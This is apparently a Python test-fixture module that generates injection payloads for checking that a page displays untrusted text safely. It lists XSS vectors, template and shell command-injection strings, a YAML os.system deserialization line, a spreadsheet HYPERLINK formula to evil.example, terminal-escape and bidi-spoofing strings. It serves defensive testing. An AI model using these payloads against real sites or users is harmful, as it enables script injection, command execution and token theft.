"""The attacks: words that would run, fetch, steer or break something in one of the places where a page shows them."""

from __future__ import annotations

import json

MARK = "KITXSS"
"""Each payload that runs says this, with its number."""
WIDE = "W" * 20_000
TURNED = "\u202egpj.exe\u2066 pay\u200bpal"
SCREEN = "\x1b[31mRED\x1b]0;pwned\x07\x1b[2J"
LINE = f"::error file=x::{MARK}%0A::warning::two"
FORMULA = f'=HYPERLINK("http://evil.example/{MARK}","click")'


def runs(number: int) -> str:
    """What each attack wants to do: say its own number."""
    return f"alert(/{MARK}-{number}/.source)"


_SHAPES = (
    "<script>{}</script>",
    '<img src=x onerror="{}">',
    '<svg onload="{}"></svg>',
    "\"><img src=x onerror={}>",
    "' autofocus onfocus={} x='",
    "[click](javascript:{})",
    "![x](x 'y\" onerror=\"{}')",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<a href="jAvAsCrIpT:{}">x</a>',
    "[x](java&#115;cript:{})",
    "<data:text/html,<script>{}</script>>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "]]><script>{}</script>",
    "--><script>{}</script>",
    "<details open ontoggle={}><summary>x</summary></details>",
    '**text**{{: onclick="{}" }}',
    "<style>@import url(/__tripwire__/style);</style>{}",
    '<form action="javascript:{}"><button>go</button></form>',
    '<base href="/__tripwire__/base/">{}',
    '<meta http-equiv="refresh" content="0;url=/__tripwire__/meta">{}',
    '<link rel="stylesheet" href="/__tripwire__/link">{}',
    "<math><mtext></table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "{{{{ 7*7 }}}}{{% import os %}}${{{{ github.token }}}} {}",
    "$(touch /tmp/{0}) `touch /tmp/{0}` ; touch /tmp/{0} #",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:{}",
    "!!python/object/apply:os.system ['{}']",
    "xqonrecordcontentx {}",
    "<?xml-stylesheet href=\"/__tripwire__/pi\"?>{}",
    '<a href="data:text/html,<script>{}</script>">x</a>',
    "<javascript:{}>",
    "[click][there]\n\n[there]: javascript:{}",
    '<p style="position:fixed;inset:0;background:url(/__tripwire__/style)" onmouseover={}>x</p>',
    '<object data="/__tripwire__/object"></object><embed src="javascript:{}">',
    '<template><script>{}</script></template><portal src="/__tripwire__/portal"></portal>',
)
ATTACKS = (*(shape.format(runs(number)) for number, shape in enumerate(_SHAPES, 1)), TURNED, WIDE, FORMULA, LINE, "-2+3", "@SUM(1+1)")
WORDS = ("👩🏽‍🚒🏴󠁧󠁢󠁥󠁮󠁧󠁿🇺🇳" * 300, "שלום עולם " * 40 + "السلام عليكم " * 40, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞" * 30, "語" * 3000)
"""What people may write, and what must break no layout."""


def one_line(text: str) -> str:
    """The text on one line."""
    return " ".join(text.split())


def quoted(text: str) -> str:
    """The text on one line, quoted as YAML and JSON understand it."""
    return json.dumps(one_line(text))


def name(text: str) -> str:
    """A beginning of the text as a name that may stand in a list, quoted."""
    return json.dumps(one_line(text)[:80])
